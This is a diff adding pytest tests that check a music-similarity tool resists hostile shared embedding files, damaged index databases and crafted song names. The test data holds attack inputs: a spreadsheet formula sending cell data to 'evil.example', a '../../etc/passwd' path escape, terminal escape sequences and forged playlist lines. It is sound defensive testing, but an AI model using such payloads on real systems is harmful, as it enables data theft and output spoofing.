@@ -347,3 +347,369 @@ def test_read_only_data_folder_is_a_clear_error(unprivileged):
     assert re.fullmatch(r"cannot write model to '.*ro-models/models': Permission denied", res["save_ro"])
     assert res["ro_models_after"] == []
     assert sorted(os.listdir(base / "ro-home")) == []
+
+
+# == issue 19: what a stranger hands you cannot crash, poison or impersonate ========================
+# A shared folder's embeddings file, an index left by someone else: every attack ends with the
+# same query answer as a clean home (after re-indexing where the attack cost embeddings).
+from strangers import (  # noqa: E402
+    copy_library,
+    damage_table,
+    execute,
+    index,
+    query,
+    read_shipped,
+    set_vector,
+    small_library,
+    song_index,
+    write_shipped,
+)
+
+from trainer.precomputed import FILE_NAME as SHIPPED  # noqa: E402
+
+
+@pytest.fixture(scope="module")
+def clean(tmp_path_factory):
+    """A small library with the classic model's precomputed embeddings, and the answers a clean
+    home (one that decoded every song) gives: ``(library, clean home, query song, query lines)``."""
+    lib = small_library(tmp_path_factory.mktemp("strangers") / "music")
+    home = tmp_path_factory.mktemp("clean-home")
+    rc, out, err = run_cli("--home", home, "precompute", lib, "--model", "classic", "--workers", "0")
+    assert rc == 0 and out.startswith("indexed 9, unchanged 0") and "wrote 9 embeddings" in out, out + err
+    song = lib / "synth" / "tones" / "tones-1.wav"
+    return lib, home, song, query(home, song)
+
+
+def _fresh(clean, tmp_path):
+    """A copy of the clean library (shipped file included) and an empty home."""
+    lib, _, song, _ = clean
+    copy = copy_library(lib, tmp_path / "music")
+    return copy, tmp_path / "home", copy / song.relative_to(lib)
+
+
+def _same_answer(lines: list[str], clean, lib: Path) -> None:
+    """The query lines a clean home gives, with the copy's folder in place of the original's."""
+    want = [ln.replace(str(clean[0]), str(lib)) for ln in clean[3]]
+    assert lines == want
+
+
+POISONS = {
+    "nan": lambda v: np.full_like(v, np.nan),
+    "inf": lambda v: np.where(np.arange(v.size) == 3, np.inf, v).astype(np.float32),
+    "huge": lambda v: np.full_like(v, 3e38),
+    "zeros": lambda v: np.zeros_like(v),
+}
+
+
+@pytest.mark.parametrize("poison", sorted(POISONS))
+def test_poisoned_shared_vectors_are_embedded_from_audio(clean, tmp_path, poison):
+    """One NaN, inf or 3e38 vector in a shared file used to break every query of the home; now
+    that song is embedded from its audio, with a note, and the answers are a clean home's."""
+    lib, home, song = _fresh(clean, tmp_path)
+    meta, vectors = read_shipped(lib)
+    i = song_index(meta, "synth/tones/tones-1.wav")
+    vectors[i] = POISONS[poison](vectors[i])
+    write_shipped(lib, meta, vectors)
+    rc, out, err = index(home, lib)
+    assert rc == 0 and "Traceback" not in err, err
+    assert out.startswith("indexed 1, 8 from the folder's precomputed embeddings"), out
+    assert "note: 1 song(s) in 'musicsim-embeddings.safetensors' have unusable embeddings (first: " \
+           "synth/tones/tones-1.wav:" in out
+    _same_answer(query(home, song), clean, lib)
+
+
+def test_shared_vectors_of_the_wrong_width_are_ignored(clean, tmp_path):
+    lib, home, song = _fresh(clean, tmp_path)
+    meta, vectors = read_shipped(lib)
+    write_shipped(lib, meta, np.concatenate([vectors, vectors], axis=1))
+    rc, out, err = index(home, lib)
+    assert rc == 0 and out.startswith("indexed 9, unchanged 0"), out + err
+    assert "names model 'classic' but not its settings or embedding size; indexing as usual" in out
+    _same_answer(query(home, song), clean, lib)
+
+
+def _unshipped(clean, tmp_path):
+    """A copy of the clean library without its shipped file (every song is embedded from audio)."""
+    lib, home, song = _fresh(clean, tmp_path)
+    (lib / SHIPPED).unlink()
+    return lib, home, song
+
+
+def _deep(n: int) -> str:
+    return "[" * n + "]" * n
+
+
+#: metadata edits: (what the stranger did, how to do it, what the index says)
+BAD_ENTRIES = {
+    "duration_s a string": (lambda s: s.update(duration_s="3 minutes"), "duration_s must be a number"),
+    "title a dict": (lambda s: s.update(title={"$": "x"}), "title must be text, found dict"),
+    "title a list": (lambda s: s.update(title=["a", "b"]), "title must be text, found list"),
+    "size negative": (lambda s: s.update(size=-1), "size must be between 0"),
+    "sha256 a number": (lambda s: s.update(sha256=12), "sha256 must be 64 lower-case hex digits"),
+    "channels 1e400": (lambda s: s.update(channels=float("inf")), "channels must be a finite number"),
+    "rel escaping the folder": (lambda s: s.update(rel="../../etc/passwd"),
+                                "rel '../../etc/passwd' is not a path inside the folder"),
+    "not an object": (None, "not an object but str"),
+}
+
+
+@pytest.mark.parametrize("what", sorted(BAD_ENTRIES))
+def test_malformed_shared_entries_are_skipped_with_a_note(clean, tmp_path, what):
+    """A bad entry costs its own song (embedded from audio, said once); the others are used."""
+    lib, home, song = _fresh(clean, tmp_path)
+    meta, vectors = read_shipped(lib)
+    i = song_index(meta, "synth/tones/tones-1.wav")
+    edit, reason = BAD_ENTRIES[what]
+    if edit is None:
+        meta["songs"][i] = "synth/tones/tones-1.wav"
+    else:
+        edit(meta["songs"][i])
+    write_shipped(lib, meta, vectors)
+    rc, out, err = index(home, lib)
+    assert rc == 0 and "Traceback" not in err, err
+    assert out.startswith("indexed 1, 8 from the folder's precomputed embeddings"), out
+    note = [ln for ln in out.splitlines() if "is malformed" in ln]
+    assert len(note) == 1 and f"entry {i + 1}: {reason}" in note[0], out
+    _same_answer(query(home, song), clean, lib)
+    with Library(home) as lib_:
+        assert all(isinstance(s.duration_s, float) for s in lib_.songs())
+
+
+#: whole-file problems: (raw metadata or a maker, what the note says)
+BAD_FILES = {
+    "version 1e400": ('{{"format": "musicsim-precomputed-embeddings", "version": 1e400, {rest}', "version must be a "
+                      "finite number"),
+    "version [2]": ('{{"format": "musicsim-precomputed-embeddings", "version": [2], {rest}', "version must be a number"),
+    "deep JSON": ('{{"format": "musicsim-precomputed-embeddings", "version": 1, "x": ' + _deep(100_000) + ", {rest}",
+                  "nested too deeply"),
+    "not JSON": ("{{{{{{", "Expecting property name"),
+    "songs an object": (None, "songs must be a list"),
+}
+
+
+@pytest.mark.parametrize("what", sorted(BAD_FILES))
+def test_malformed_shared_file_is_ignored_with_one_line(clean, tmp_path, what):
+    lib, home, song = _fresh(clean, tmp_path)
+    meta, vectors = read_shipped(lib)
+    raw, reason = BAD_FILES[what]
+    if raw is None:
+        meta["songs"] = {"a": 1}
+        raw = json.dumps(meta)
+    else:
+        rest = json.dumps({k: v for k, v in meta.items() if k not in ("format", "version")})[1:]
+        raw = raw.format(rest=rest)
+    write_shipped(lib, raw, vectors)
+    rc, out, err = index(home, lib)
+    assert rc == 0 and "Traceback" not in err, err
+    assert out.startswith("indexed 9, unchanged 0"), out
+    notes = [ln for ln in out.splitlines() if ln.startswith("  note: ")]
+    assert len(notes) == 1 and "are unusable: " in notes[0] and reason in notes[0], out
+    assert notes[0].endswith("; indexing as usual") and len(notes[0]) < 600
+    _same_answer(query(home, song), clean, lib)
+
+
+def test_shared_titles_are_cleaned_and_bounded(clean, tmp_path):
+    """Control characters, escape sequences, lone surrogates and a 5 MB title in a shared file:
+    the title is stored cleaned and cut to 500 characters, and printed escaped and cut."""
+    lib, home, song = _fresh(clean, tmp_path)
+    meta, vectors = read_shipped(lib)
+    for s in meta["songs"]:
+        if s["rel"] == "synth/tones/tones-2.wav":
+            s["title"] = "\x1b[2J\x1b[31mEVIL\x07\r\nforged line\u202e" + "x" * 5_000_000
+            s["artist"] = "lone \ud800 surrogate"
+    write_shipped(lib, meta, vectors)
+    rc, out, err = index(home, lib)
+    assert rc == 0 and out.startswith("indexed 0, 9 from the folder's precomputed embeddings"), out + err
+    with Library(home) as lib_:
+        stored = {s.path.name: s for s in lib_.songs()}["tones-2.wav"]
+    assert stored.title.startswith("[2J [31mEVIL forged line ") and len(stored.title) == 500
+    assert stored.artist == "lone surrogate"
+    lines = query(home, song)
+    assert len(lines) == 6 and all(len(ln) < 1200 for ln in lines)
+    assert not any(c in "".join(lines) for c in "\x1b\x07\r\u202e")
+    "\n".join(lines).encode("utf-8")  # strict UTF-8
+
+
+def test_a_huge_sparse_shared_file_is_not_read(clean, tmp_path):
+    lib, home, song = _fresh(clean, tmp_path)
+    with open(lib / SHIPPED, "r+b") as f:
+        f.truncate(2 * 1024**3)  # 2 GB: a hole after the real file
+    tracemalloc.start()
+    try:
+        rc, out, err = index(home, lib)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert rc == 0 and out.startswith("indexed 9, unchanged 0"), out + err
+    assert "are unusable: larger than 1 GiB; indexing as usual" in out
+    assert peak < 200e6
+    _same_answer(query(home, song), clean, lib)
+
+
+# -- an index with poisoned rows (an older version, a foreign file, a damaged disk) ---------------
+@pytest.fixture
+def poisoned(clean, tmp_path):
+    """A home indexed from the clean library, then edited with SQLite: a NaN vector, a 3e38 one, a
+    3-byte blob, a vector twice as wide, an all-zero one, a duration that is text, a title that is
+    a blob and one of 5 MB with escape sequences."""
+    lib, home, song = _unshipped(clean, tmp_path)
+    assert index(home, lib)[0] == 0
+    db = home / "index.db"
+    from trainer.classic_names import N_FEATURES
+
+    album = lib / "synth"
+    set_vector(db, album / "tones" / "tones-0.wav", np.full(N_FEATURES, np.nan, np.float32).tobytes())
+    set_vector(db, album / "squares" / "squares-0.wav", np.full(N_FEATURES, 3e38, np.float32).tobytes())
+    set_vector(db, album / "squares" / "squares-1.wav", b"abc")
+    set_vector(db, album / "noise" / "noise-0.wav", np.ones(2 * N_FEATURES, np.float32).tobytes())
+    set_vector(db, album / "noise" / "noise-1.wav", np.zeros(N_FEATURES, np.float32).tobytes())
+    execute(db, "UPDATE songs SET duration = 'three minutes', title = ? WHERE path = ?", b"\x00\xff",
+            bytes(album / "tones" / "tones-2.wav"))
+    execute(db, "UPDATE songs SET title = ? WHERE path = ?", "\x1b]0;pwned\x07" + "y" * 5_000_000,
+            bytes(album / "noise" / "noise-2.wav"))
+    return lib, home, song
+
+
+def test_search_survives_poisoned_rows_and_index_mends_them(clean, poisoned):
+    lib, home, song = poisoned
+    lines = query(home, song, k=3)  # the unusable rows are nobody's neighbours
+    assert len(lines) == 4 and all("tones-0.wav" not in ln for ln in lines)
+    assert not any(c in "".join(lines) for c in "\x1b\x07")
+    with Library(home) as lib_:
+        songs = lib_.songs()
+        ids, matrix = lib_.embeddings(classic_model().info.key)
+    assert len(ids) == 4 and np.isfinite(matrix).all()
+    assert {s.path.name: s.duration_s for s in songs}["tones-2.wav"] is None
+    assert {s.path.name: s.title for s in songs}["tones-2.wav"] is None
+    assert len({s.path.name: s.title for s in songs}["noise-2.wav"]) == 500
+    rc, out, err = index(home, lib)
+    assert rc == 0 and out.startswith("indexed 5, unchanged 4"), out + err
+    assert "note: 5 stored embedding(s) were unusable (not finite, absurd or the wrong size); those songs " \
+           "are embedded anew" in out
+    _same_answer(query(home, song), clean, lib)
+
+
+def test_the_map_survives_poisoned_rows(poisoned):
+    """The window's snapshot (what the map projects) holds only usable rows: PCA works."""
+    from musicsim_app.engine_jobs import load_snapshot
+    from musicsim_app.projection import project
+
+    lib, home, _ = poisoned
+    snap = load_snapshot(home, [lib], classic_model().info.key)
+    assert len(snap.ids) == 4 and np.isfinite(snap.matrix).all()
+    xy = project(snap.matrix, "PCA")
+    assert xy.shape == (4, 2) and np.isfinite(xy).all()
+
+
+def test_check_reports_and_repairs_poisoned_rows(clean, poisoned):
+    lib, home, song = poisoned
+    rc, out, err = run_cli("--home", home, "check")
+    assert rc == 1 and "Traceback" not in err, err
+    assert "  5 embedding(s) of classic@" in out and "  2 song(s) with malformed fields" in out
+    assert out.rstrip().endswith("problems found: 'musicsim check --repair' repairs them")
+    rc, out, err = run_cli("--home", home, "check", "--repair")
+    assert rc == 0 and "repaired: " in out, out + err
+    rc, out, _ = run_cli("--home", home, "check")
+    assert rc == 0 and out.rstrip().endswith("no problems found"), out
+    rc, out, _ = index(home, lib)
+    assert rc == 0 and out.startswith("indexed 5, unchanged 4") and "note:" not in out, out
+    _same_answer(query(home, song), clean, lib)
+
+
+def test_unreadable_model_record_drops_its_rows(clean, tmp_path):
+    """models.features that is not JSON (or a width that is not a number) vouches for nothing:
+    the key's rows are dropped (one line), and the next index makes them anew."""
+    lib, home, song = _unshipped(clean, tmp_path)
+    assert index(home, lib)[0] == 0
+    execute(home / "index.db", "UPDATE models SET features = '{not json'")
+    rc, _, err = run_cli("--home", home, "query", song, "--model", "classic")
+    assert rc == 2 and err.startswith("musicsim: error: no songs are indexed with model 'classic'"), err
+    assert len(err.strip().splitlines()) == 1
+    rc, out, _ = index(home, lib)
+    assert rc == 0 and out.startswith("indexed 9, unchanged 0"), out
+    _same_answer(query(home, song), clean, lib)
+
+
+def test_a_damaged_database_page_is_one_line_and_check_repairs_it(clean, tmp_path):
+    lib, home, song = _unshipped(clean, tmp_path)
+    assert index(home, lib)[0] == 0
+    damage_table(home / "index.db", "embeddings")
+    for argv in (("query", song, "--model", "classic"), ("prune",)):
+        rc, out, err = run_cli("--home", home, *argv)
+        assert rc == 2 and "Traceback" not in err, err
+        lines = err.strip().splitlines()
+        assert len(lines) == 1 and re.match(r"musicsim: error: .*damaged.*'musicsim check --repair'", lines[0]), err
+    rc, out, _ = run_cli("--home", home, "check")
+    assert rc == 1 and "  damaged: " in out, out
+    rc, out, err = run_cli("--home", home, "check", "--repair")
+    assert rc == 0 and "rebuilt from what could be read (" in out and "index.db.damaged-" in out, out + err
+    assert list(home.glob("index.db.damaged-*"))  # kept for whoever wants to look
+    rc, out, _ = run_cli("--home", home, "check")
+    assert rc == 0 and out.rstrip().endswith("no problems found"), out
+    rc, out, _ = index(home, lib)
+    assert rc == 0 and re.match(r"indexed [1-9]\d*, unchanged \d+, removed 0, skipped 0", out), out
+    _same_answer(query(home, song), clean, lib)
+
+
+# -- what is printed and exported ---------------------------------------------------------------------
+def test_query_output_escapes_names_and_tags(tmp_path):
+    """A file name with an escape sequence, BEL and a newline, tags with CR/LF, ANSI codes, bidi
+    overrides and 2 MB of text, a name that is not UTF-8: each result is one printable line."""
+    import mutagen.flac
+
+    lib = tmp_path / "music"
+    names = ["evil \x1b[31mred\x07\nforged.flac", os.fsdecode(b"caf\xe9 \xff.flac"), "plain.flac"]
+    for i, name in enumerate(names):
+        path = write(lib / "album" / name, tone(200 + 100 * i, 2.0, harmonics=3), format="FLAC")
+        tags = mutagen.flac.FLAC(os.fsencode(path))
+        tags["title"] = "\x1b[2J\rTitle\r\nnext line\u202e" + "z" * 2_000_000
+        tags["artist"] = "\x07Artist\x1b]0;title\x07"
+        tags.save()
+    home = tmp_path / "home"
+    assert index(home, lib)[0] == 0
+    rc, out, err = run_cli("--home", home, "query", lib / "album" / "plain.flac", "--model", "classic")
+    assert rc == 0, err
+    out.encode("utf-8")  # strict: nothing unencodable
+    lines = out.splitlines()
+    assert len(lines) == 3 and lines[0].startswith("2 nearest to ")  # header + 2 results, no forged line
+    assert "; 10 asked for, the index has 3 songs" in lines[0]
+    assert not any(c in out for c in "\x1b\x07\r\u202e")
+    assert "\\e[31mred\\a\\nforged.flac" in out and "caf\\udce9 \\udcff.flac" in out
+    assert all(len(ln) < 1000 for ln in lines)
+
+
+def test_m3u_export_keeps_one_entry_per_song(tmp_path):
+    """Tags cannot add playlist lines; names that are not UTF-8 keep their bytes; a name with a
+    newline is written as a file:// URI (the window's export and 'musicsim path --m3u')."""
+    from types import SimpleNamespace
+
+    from musicsim_app.results_view import write_m3u as window_m3u
+
+    from trainer.playlists import write_m3u as engine_m3u
+
+    lib = tmp_path / "music"
+    raw_name = lib / os.fsdecode(b"caf\xe9.wav")
+    newline = lib / "two\nlines.wav"
+    songs = [SimpleNamespace(path=p, root=lib, duration_s=3.0, title=f"T\n#EXTINF:0,forged\r{i}",
+                             artist="A\x1b[31m", album=None) for i, p in enumerate((raw_name, newline))]
+    window_m3u(tmp_path / "w.m3u", [SimpleNamespace(song=s) for s in songs])
+    engine_m3u(tmp_path / "e.m3u", [(s.path, s.duration_s, f"{s.artist} - {s.title}") for s in songs])
+    for out in (tmp_path / "w.m3u", tmp_path / "e.m3u"):
+        lines = out.read_bytes().split(b"\n")
+        assert lines[0] == b"#EXTM3U" and lines[-1] == b"" and len(lines) == 6, lines
+        assert all(ln.startswith(b"#EXTINF:3,") for ln in lines[1:5:2])
+        assert b"\x1b" not in out.read_bytes() and b"\r" not in out.read_bytes()
+        assert lines[2] == os.fsencode(raw_name)  # the exact bytes: a player finds the file
+        assert lines[4] == b"file://" + os.fsencode(lib).replace(b" ", b"%20") + b"/two%0Alines.wav"
+
+
+def test_benchmark_csv_cannot_run_a_formula(tmp_path):
+    from trainer.evaluate import BenchResult, ScoreRow, load_reference_tables
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    res = BenchResult(model=evil, rows=[ScoreRow("cosine", "Normalizer", 50.0, 3)], p_at_1=0.5, map_at_r=0.5,
+                      n_songs=3, n_triplets=3)
+    res.to_csv(tmp_path / "r.csv")
+    cell = (tmp_path / "r.csv").read_text().splitlines()[1]
+    assert cell.startswith("'=HYPERLINK(") or cell.startswith("\"'=HYPERLINK(")
+    assert list(load_reference_tables(tmp_path / "r.csv")) == [evil]  # read back as it was
